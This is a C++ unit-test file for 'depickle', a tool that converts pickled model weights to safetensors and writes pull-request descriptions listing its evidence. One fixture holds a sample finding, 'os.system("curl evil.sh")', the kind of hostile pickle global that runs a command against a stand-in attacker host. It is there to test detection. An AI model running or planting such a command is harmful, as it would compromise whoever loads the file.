#include "depickle/repo/description.h"

#include <gmock/gmock.h>

namespace depickle::repo {
namespace {

using testing::HasSubstr;
using testing::Not;

Description given() {
  return {.repo = "org/name",
      .commit = "0123456789abcdef0123456789abcdef01234567",
      .version = "0.1.0",
      .library = "transformers",
      .number = 7,
      .files = {{.target = "model.safetensors",
          .source = "pytorch_model.bin",
          .target_bytes = 1000,
          .source_bytes = 1200,
          .target_sha256 = "aaaa",
          .source_sha256 = "bbbb"}},
      .tensors = 4,
      .identical = 4,
      .named = {.inert = {"torch._utils._rebuild_tensor_v2"}, .findings = {}}};
}

TEST(Description, Contains_the_evidence_and_how_to_verify_it) {
  EXPECT_EQ(to_markdown(given()),
      R"(This adds `model.safetensors`, converted from the pickled weights of commit `0123456789ab` by )"
      R"(depickle 0.1.0. Nothing else changes.

**4 of 4 tensors are identical to the pickle's.** Each new file was read )"
      R"(back and compared with its source, tensor by tensor. The pickles were parsed, not executed.

| file | bytes | sha256 |
|---|---:|---|
| `model.safetensors` | 1,000 | `aaaa` |
| from `pytorch_model.bin` | 1,200 | `bbbb` |

All globals of the pickles only build tensors and plain containers: `torch._utils._rebuild_tensor_v2`.

Load it before it is merged:

```python
from transformers import AutoModel

model = AutoModel.from_pretrained("org/name", revision="refs/pr/7", use_safetensors=True)
```

Verify every tensor yourself:

```
depickle check org/name 7
```
)");
}

TEST(Description, Shows_how_to_load_a_pipeline_and_models_of_other_libraries) {
  Description pipeline = given(), other = given();
  pipeline.is_pipeline = true;
  other.library = "timm";
  EXPECT_THAT(to_markdown(pipeline),
      HasSubstr("DiffusionPipeline.from_pretrained(\"org/name\", revision=\"refs/pr/7\", use_safetensors=True)"));
  EXPECT_THAT(to_markdown(other),
      HasSubstr("load_file(hf_hub_download(\"org/name\", \"model.safetensors\", revision=\"refs/pr/7\"))"));
}

TEST(Description, Lists_what_a_pickle_would_execute_and_what_was_skipped) {
  Description d = given();
  d.named.findings = {"pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command"};
  d.tied = {{"lm_head.weight", "wte.weight"}};
  d.skipped_files = {{"optimizer.pt", "optimizer state"}};
  d.unused = {"epoch (int 3)"};
  const std::string text = to_markdown(d);
  EXPECT_THAT(text, HasSubstr("- `pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command`\n"));
  EXPECT_THAT(text, HasSubstr("- Tied tensors, stored once: `lm_head.weight` is `wte.weight`\n"));
  EXPECT_THAT(text, HasSubstr("- In the pickles, but not weights: `epoch (int 3)`\n- Files that were not converted: "
                              "`optimizer.pt` (optimizer state)\n"));
}

TEST(Description, Includes_the_receipt_only_if_it_is_small) {
  Description d = given();
  d.receipt = "{}";
  EXPECT_THAT(to_markdown(d), HasSubstr("<details><summary>Receipt</summary>\n\n```json\n{}\n```\n\n</details>\n"));
  d.receipt = std::string(100'000, ' ');
  EXPECT_THAT(to_markdown(d), Not(HasSubstr("<details>")));
}

TEST(Description, Escapes_names) { EXPECT_EQ(markdown_code("a`b|c\nd"), "`a'b\\|c\\nd`"); }

}  // namespace
}  // namespace depickle::repo
